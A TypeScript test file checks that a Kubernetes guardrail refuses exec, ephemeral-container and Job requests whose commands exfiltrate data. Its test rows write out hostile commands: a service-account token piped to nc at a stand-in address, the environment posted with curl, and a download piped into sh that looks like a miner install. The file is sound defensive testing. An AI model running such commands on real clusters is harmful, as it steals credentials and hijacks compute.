import { describe, expect, it } from 'vitest';
import { builtServerForFile, checkEscalationRows, freshSubjects, kubectlSender, reason, rules, type EscalationRow as Row, type EscalationState as State } from '../support/built-server.js';

/**
 * container_command_egress through the build `npm start` serves, with the example: what a
 * container's command or an exec's command does with the network (docs/guardrails.md). Every row
 * is refused in every token state, a two-factor sign-in a minute old from the office included
 * (critical: a hardware key within 5 minutes), and names the guardrail; the same requests with a
 * routine command are allowed on that sign-in. The exec rows are the
 * request path this guardrail added (src/guardrails/guard.ts reads an exec's query); the body rows
 * go through the inspection every pod write already gets.
 */

const server = builtServerForFile('container-commands');
const subjects = freshSubjects(() => server().issuer, 'container-commands');
const send = kubectlSender(server, subjects);
const SMP = { 'content-type': 'application/strategic-merge-patch+json' };
const JSON_CT = { 'content-type': 'application/json' };
const SPDY = { connection: 'Upgrade', upgrade: 'SPDY/3.1' };
const WS = { connection: 'Upgrade', upgrade: 'websocket', 'sec-websocket-protocol': 'v5.channel.k8s.io' };
const ALL: State[] = ['stolen', 'remote', 'everyday', 'laptop'];
const BY = 'guardrail:container_command_egress';

const POD = '/api/v1/namespaces/dev/pods/api-7d9c5f-x2k4p';
const exec = (script: string) => `${POD}/exec?command=sh&command=-c&command=${encodeURIComponent(script)}&container=api&stdout=true&stderr=true`;
const SEND_TOKEN = 'cat /var/run/secrets/kubernetes.io/serviceaccount/token | nc 203.0.113.9 443';
const job = (script: string) => ({ apiVersion: 'batch/v1', kind: 'Job', metadata: { name: 'warm-cache' }, spec: { template: { spec: { restartPolicy: 'Never', containers: [{ name: 'warm', image: 'busybox:1.36', command: ['sh', '-c', script] }] } } } });

describe("a container's or an exec's command that sends a credential out or runs a download", () => {
  const rows: Row[] = [
    { what: "exec over SPDY piping the pod's token to nc", req: { method: 'POST', path: exec(SEND_TOKEN), headers: SPDY }, by: BY, refused: ALL },
    { what: 'exec over WebSocket (a GET) posting the environment with curl', req: { method: 'GET', path: exec('env | curl -s --data-binary @- https://203.0.113.9/u'), headers: WS }, by: BY, refused: ALL },
    { what: "kubectl debug's ephemeral container piping the target's token to nc", req: { method: 'PATCH', path: `${POD}/ephemeralcontainers`, body: { spec: { ephemeralContainers: [{ name: 'debugger-p9z4m', image: 'busybox:1.36', command: ['sh', '-c', `cat /proc/1/root${SEND_TOKEN.slice(3)}`], targetContainerName: 'api' }] } }, headers: SMP }, by: BY, refused: ALL },
    { what: 'a Job whose command pipes a download into sh', req: { method: 'POST', path: '/apis/batch/v1/namespaces/dev/jobs', body: job('curl -s http://203.0.113.9/xm | sh -s -- --donate-level 0'), headers: JSON_CT }, by: BY, refused: ALL },
  ];
  checkEscalationRows(send, rows);

  it('the same requests with a routine command are allowed on the two-factor sign-in a minute old', async () => {
    for (const req of [
      { method: 'POST', path: exec('exec bash || exec sh'), headers: SPDY },
      { method: 'GET', path: exec('env'), headers: WS },
      { method: 'POST', path: '/apis/batch/v1/namespaces/dev/jobs', body: job('curl -sf http://localhost:8080/warm || exit 1'), headers: JSON_CT },
    ]) {
      const res = await send(req, 'laptop');
      expect(reason(res), `${req.method} ${req.path} [${rules(res)}]`).toBe('allowed');
    }
  });
});
